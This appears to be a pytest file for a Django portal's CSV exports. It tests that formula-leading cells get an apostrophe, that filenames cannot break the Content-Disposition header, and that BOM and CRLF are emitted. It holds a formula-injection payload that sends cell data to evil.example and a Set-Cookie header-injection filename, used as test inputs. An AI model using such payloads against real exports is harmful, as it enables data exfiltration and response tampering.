"""The portal's one CSV writer and every CSV that uses it: BOM, CRLF, no formula runs."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from groups import services
from portal.csv import csv_response, neutralise
from tests.factories.events import create_event
from tests.factories.facilities import create_facility, create_room, facility_staff
from tests.factories.groups import create_group
from tests.factories.portal import UserFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _rows(response: Any) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    assert "\r\n" in body
    assert "\n" not in body.replace("\r\n", "")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def _all_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise__formula_starts_get_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


def test_neutralise__plain_text_and_numbers_unchanged() -> None:
    assert neutralise("市民活動フェア") == "市民活動フェア"
    assert neutralise(-3) == -3
    assert neutralise(None) == ""


def test_csv_response__no_header_breakout() -> None:
    response, _writer = csv_response('a"\r\nSet-Cookie: x.csv')
    assert "\n" not in response["Content-Disposition"]
    assert response["Content-Disposition"] == 'attachment; filename="a- Set-Cookie- x.csv"'


def test_csv_response__bom_crlf_and_quoted_filename() -> None:
    response, writer = csv_response('x"y.csv')
    writer.writerow(["=cmd", "ok"])
    assert response["Content-Disposition"] == 'attachment; filename="x-y.csv"'
    assert response.content.decode("utf-8") == "\ufeff'=cmd,ok\r\n"


@pytest.mark.django_db
def test_opendata_groups_csv__name_neutralised(client: Any) -> None:
    create_group(name=HOSTILE, purpose="-purpose")
    rows = _rows(client.get(reverse("groups:opendata-groups-csv")))
    assert "'" + HOSTILE in _all_cells(rows)
    assert "'-purpose" in _all_cells(rows)
    assert HOSTILE not in _all_cells(rows)


@pytest.mark.django_db
def test_opendata_events_csv__title_neutralised(client: Any) -> None:
    create_event(title=HOSTILE, place="@place")
    rows = _rows(client.get(reverse("groups:opendata-events-csv")))
    assert "'" + HOSTILE in _all_cells(rows)
    assert "'@place" in _all_cells(rows)
    assert HOSTILE not in _all_cells(rows)


@pytest.mark.django_db
def test_participants_csv__name_and_note_neutralised(client: Any) -> None:
    event = create_event(requires_signup=True)
    participant = UserFactory(full_name=HOSTILE, full_name_kana="+カナ")
    services.registration_create(event=event, user=participant, note="=note")
    client.force_login(event.group.memberships.get(role="representative").user)
    rows = _rows(client.get(reverse("groups:event-participants-csv", args=[event.pk])))
    assert rows[1][2] == "'" + HOSTILE
    assert rows[1][3] == "'+カナ"
    assert rows[1][6] == "'=note"


@pytest.mark.django_db
def test_occupancy_csv__facility_and_room_names_neutralised(client: Any) -> None:
    facility = create_facility(slug="central", name=HOSTILE)
    create_room(facility, name="-room")
    client.force_login(facility_staff(facility, UserFactory()))
    rows = _rows(client.get(reverse("facilities:staff-occupancy-csv") + "?year=2026"))
    assert rows[1][1] == "'" + HOSTILE
    assert rows[1][2] == "'-room"
